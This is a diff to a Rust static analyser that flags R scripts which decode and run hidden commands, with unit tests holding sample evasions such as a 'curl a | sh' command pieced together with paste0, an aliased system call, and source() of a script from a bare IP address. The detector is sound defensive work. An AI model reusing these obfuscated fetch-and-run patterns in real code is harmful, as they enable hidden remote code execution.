@@ -40,6 +40,7 @@ pub fn analyse(text: &str) -> Script {
     let mut script = Script { role: Role::Script, ..Script::default() };
     let mut names: Vec<String> = Vec::new();
     let mut aliases: Vec<(String, String)> = Vec::new();
+    let mut others: Vec<String> = Vec::new();
     for (line, number) in text.lines().take(MAX_LINES).zip(1..) {
         let line = line.split(" #").next().unwrap_or("").trim();
         if line.is_empty() || line.starts_with('#') || line.len() > 8_000 {
@@ -49,7 +50,10 @@ pub fn analyse(text: &str) -> Script {
             script.shell.push((piped, number));
         }
         // What is decoded only to be run.
-        const DECODES: [&str; 7] = [
+        const DECODES: [&str; 10] = [
+            "Base64DecodePipe",
+            "hex2bytes",
+            "strtoi(",
             "base64decode",
             "base64_dec",
             "rawToChar",
@@ -59,7 +63,7 @@ pub fn analyse(text: &str) -> Script {
             "Base64.base64decode",
         ];
         let decodes = DECODES.iter().any(|name| line.contains(name));
-        for name in ["eval", "evalq", "system", "system2", "include_string"] {
+        for name in ["eval", "evalq", "system", "system2", "include_string", "run"] {
             let inside = calls(line, name).filter(|inside| DECODES.iter().any(|word| inside.contains(word)));
             if let Some(inside) = inside.filter(|_| decodes && script.calls.len() < MAX_CALLS) {
                 script.calls.push(decoded(name, inside, number));
@@ -70,6 +74,44 @@ pub fn analyse(text: &str) -> Script {
             && aliases.len() < MAX_NAMES
         {
             aliases.push((name.clone(), function.clone()));
+        }
+        // `do.call("system", list(...))`, and a name for a function that is another's.
+        if let Some(inside) = calls(line, "do.call")
+            && let Some(function) = inside.split(['"', '\'']).nth(1).filter(|name| RUNS.contains(name))
+            && decodes
+            && script.calls.len() < MAX_CALLS
+        {
+            script.calls.push(decoded(function, inside, number));
+        }
+        if let Some((name, value)) = line.split_once("<-") {
+            let value = value.trim().trim_start_matches("base::");
+            if RUNS.contains(&value) && others.len() < MAX_NAMES {
+                others.push(name.trim().to_owned());
+            }
+        }
+        // A command that is put together from constants.
+        let named = others.iter().map(String::as_str).chain(RUNS);
+        for inside in named.filter_map(|name| calls(line, name)).take(8) {
+            let joins = calls(inside, "paste0").is_some() || calls(inside, "paste").is_some();
+            if joins && script.shell.len() < MAX_CALLS {
+                let parts: Vec<&str> = inside.split(['"', '\'']).skip(1).step_by(2).take(32).collect();
+                script.shell.push((parts.concat(), number));
+            }
+        }
+        // What a bare address gives that day is run as a program.
+        let bare = |inside: &&str| {
+            let host = inside.split_once("http://").map_or("", |(_, rest)| rest);
+            host.starts_with(|c: char| c.is_ascii_digit())
+                && !host.starts_with("127.")
+                && !host.starts_with("10.")
+        };
+        if let Some(inside) = calls(line, "source").filter(bare)
+            && script.calls.len() < MAX_CALLS
+        {
+            let mut call = decoded("eval", inside, number);
+            call.callee = "source".to_owned();
+            call.arguments[0].origin = Origin { network: true, ..Origin::default() };
+            script.calls.push(call);
         }
         let mut run: Vec<(String, &str)> = aliases
             .iter()
@@ -149,7 +191,7 @@ fn names_spelled(line: &str) -> Option<(Option<String>, String)> {
 
 /// A call that runs what it decodes.
 fn decoded(name: &str, inside: &str, line: u32) -> Call {
-    let runs = matches!(name, "system" | "system2");
+    let runs = matches!(name, "system" | "system2" | "run" | "shell" | "pipe");
     Call {
         callee: name.to_owned(),
         power: if runs { Power::Runs } else { Power::Evaluates },
@@ -212,6 +254,11 @@ mod tests {
         assert_eq!(found("# system(readLines('http://x'))"), 0);
         assert_eq!(found("eval(parse(text = rawToChar(base64enc::base64decode('aWQ='))))"), 1);
         assert_eq!(found("f <- get(paste0('sys', 'tem'))\nf(rawToChar(as.raw(c(0x69, 0x64))))"), 1);
+        assert_eq!(found("do.call('system', list(intToUtf8(c(105, 100))))"), 1);
+        assert_eq!(found("source('http://192.0.2.1/x.R')\nsource('http://bioconductor.org/biocLite.R')"), 1);
+        assert_eq!(found("run(`bash -c $(String(base64decode(\"aWQ=\")))`)"), 1);
+        let joined = analyse("f <- base::system\nf(paste0('cu', 'rl a | s', 'h'))").shell;
+        assert_eq!(joined, [("curl a | sh".to_owned(), 2)]);
         assert_eq!(found("x <- get('weights')\nf <- get(paste0('re', 'shape'))\nf(x)"), 0);
         assert_eq!(found("x <- rawToChar(base64enc::base64decode('aWQ='))"), 0);
     }
